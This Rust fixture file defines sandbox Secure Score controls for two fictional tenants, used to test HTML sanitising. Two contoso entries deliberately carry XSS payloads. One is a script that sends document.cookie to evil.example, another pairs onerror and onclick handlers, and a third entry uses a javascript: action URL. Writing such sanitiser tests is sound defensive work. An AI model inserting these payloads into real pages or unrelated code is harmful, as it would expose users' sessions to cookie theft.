//! The sandbox's secure score controls: a fixed catalogue per tenant, with the tenant's score on each.
//! Two contoso controls carry hostile content (a `<script>`, an `onerror=` handler and a
//! `javascript:` action URL) so that sanitising can be seen to work.

/// One control profile and the tenant's current score on it.
pub struct Control {
    pub id: &'static str,
    pub title: &'static str,
    pub category: &'static str,
    pub service: &'static str,
    pub max_score: f64,
    pub score: f64,
    pub user_impact: &'static str,
    pub implementation_cost: &'static str,
    pub tier: &'static str,
    pub action_type: &'static str,
    pub action_url: &'static str,
    pub threats: &'static [&'static str],
    pub remediation: &'static str,
    pub remediation_impact: &'static str,
}

const fn control(
    (id, title): (&'static str, &'static str),
    category: &'static str,
    service: &'static str,
    (max_score, score): (f64, f64),
    (user_impact, implementation_cost, tier): (&'static str, &'static str, &'static str),
    action_url: &'static str,
    remediation: &'static str,
) -> Control {
    Control {
        id,
        title,
        category,
        service,
        max_score,
        score,
        user_impact,
        implementation_cost,
        tier,
        action_type: "Config",
        action_url,
        threats: &["AccountBreach", "ElevationOfPrivilege"],
        remediation,
        remediation_impact: "Users are prompted as described in the remediation steps.",
    }
}

const ENTRA: &str = "https://entra.microsoft.com/#view/Microsoft_AAD_ConditionalAccess";
const DEFENDER: &str = "https://security.microsoft.com/securitysettings";
const EXCHANGE: &str = "https://admin.exchange.microsoft.com/#/";

#[rustfmt::skip]
pub static CONTOSO: [Control; 12] = [
    control(("AdminMFAV2", "Ensure multifactor authentication is enabled for all users in administrative roles"), "Identity", "AzureAD", (10.0, 10.0), ("Low", "Low", "Core"), ENTRA,
        "<p>Require MFA for administrative roles with a <a href=\"https://learn.microsoft.com/entra/identity/conditional-access/howto-conditional-access-policy-admin-mfa\">Conditional Access policy</a>.</p>"),
    control(("MFARegistrationV2", "Ensure all users can complete multifactor authentication"), "Identity", "AzureAD", (9.0, 6.0), ("Moderate", "Moderate", "Core"), ENTRA,
        "<ol><li>Open the registration campaign.</li><li>Target <b>All users</b>.</li></ol>"),
    control(("BlockLegacyAuthentication", "Enable Conditional Access policies to block legacy authentication"), "Identity", "AzureAD", (8.0, 0.0), ("Moderate", "Low", "Core"), ENTRA,
        "<p>Block clients that do not use modern authentication.</p><script>document.location='https://evil.example/?c='+document.cookie</script>"),
    control(("SelfServicePasswordReset", "Enable self-service password reset"), "Identity", "AzureAD", (1.0, 1.0), ("Low", "Low", "Core"), ENTRA,
        "<p>Turn on SSPR for all users.</p><img src=\"x\" onerror=\"alert('secure score')\"><p onclick=\"steal()\">Then test it.</p>"),
    control(("IntegratedApps", "Do not allow users to grant consent to unreliable applications"), "Apps", "AzureAD", (4.0, 4.0), ("Moderate", "Low", "Core"), "javascript:alert('action')",
        "<p>Allow user consent only for verified publishers.</p>"),
    control(("PWAgePolicyNew", "Set the password expiration policy to never expire"), "Identity", "AzureAD", (8.0, 8.0), ("Moderate", "Low", "Core"), "https://admin.microsoft.com/#/Settings/SecurityPrivacy",
        "<p>Password expiration requirements do more harm than good.</p>"),
    control(("mdo_safelinksforemail", "Turn on Safe Links for email messages"), "Apps", "MDO", (9.0, 4.5), ("Low", "Low", "Defense in Depth"), DEFENDER,
        "<p>Create a Safe Links policy covering all recipients.</p>"),
    control(("mdo_safeattachments", "Turn on Safe Attachments in block mode"), "Apps", "MDO", (8.0, 0.0), ("Low", "Moderate", "Defense in Depth"), DEFENDER,
        "<p>Set the Safe Attachments unknown malware response to <code>Block</code>.</p>"),
    control(("mdo_antiphishingpolicies", "Set the phishing email level threshold at 2 or higher"), "Apps", "MDO", (9.0, 3.0), ("Low", "Low", "Defense in Depth"), DEFENDER,
        "<p>Raise the advanced phishing threshold.</p>"),
    control(("exo_mailboxaudit", "Ensure mailbox auditing for all users is enabled"), "Data", "EXO", (5.0, 5.0), ("Low", "Low", "Core"), EXCHANGE,
        "<p>Run <code>Set-OrganizationConfig -AuditDisabled $false</code>.</p>"),
    control(("scid_2000", "Turn on Microsoft Defender Antivirus PUA protection in block mode"), "Device", "MDATP", (8.0, 2.0), ("Low", "Low", "Advanced"), DEFENDER,
        "<p>Set <i>PUAProtection</i> to block on all devices.</p>"),
    control(("scid_5090", "Block executable content from email client and webmail"), "Device", "MDATP", (9.0, 0.0), ("Moderate", "Moderate", "Advanced"), DEFENDER,
        "<p>Enable the attack surface reduction rule in block mode.</p>"),
];

#[rustfmt::skip]
pub static FABRIKAM: [Control; 4] = [
    control(("AdminMFAV2", "Ensure multifactor authentication is enabled for all users in administrative roles"), "Identity", "AzureAD", (10.0, 0.0), ("Low", "Low", "Core"), ENTRA,
        "<p>Require MFA for administrative roles.</p>"),
    control(("MFARegistrationV2", "Ensure all users can complete multifactor authentication"), "Identity", "AzureAD", (9.0, 9.0), ("Moderate", "Moderate", "Core"), ENTRA,
        "<p>Run a registration campaign.</p>"),
    control(("exo_mailboxaudit", "Ensure mailbox auditing for all users is enabled"), "Data", "EXO", (5.0, 5.0), ("Low", "Low", "Core"), EXCHANGE,
        "<p>Turn on mailbox auditing.</p>"),
    control(("mdo_safelinksforemail", "Turn on Safe Links for email messages"), "Apps", "MDO", (9.0, 0.0), ("Low", "Low", "Defense in Depth"), DEFENDER,
        "<p>Create a Safe Links policy.</p>"),
];

/// The controls of a tenant (by key); other tenants have none.
pub fn for_tenant(tenant_key: &str) -> &'static [Control] {
    match tenant_key {
        "contoso" => &CONTOSO,
        "fabrikam" => &FABRIKAM,
        _ => &[],
    }
}

/// Licensed and active users of a tenant (by key).
pub fn user_counts(tenant_key: &str) -> (u32, u32) {
    match tenant_key {
        "contoso" => (250, 212),
        "fabrikam" => (40, 31),
        _ => (0, 0),
    }
}

/// Services the tenant has, as Graph names them.
pub fn enabled_services(tenant_key: &str) -> &'static [&'static str] {
    match tenant_key {
        "contoso" => &[
            "HasAzureAD",
            "HasExchange",
            "HasSharePoint",
            "HasMDO",
            "HasMDATP",
        ],
        "fabrikam" => &["HasAzureAD", "HasExchange"],
        _ => &[],
    }
}
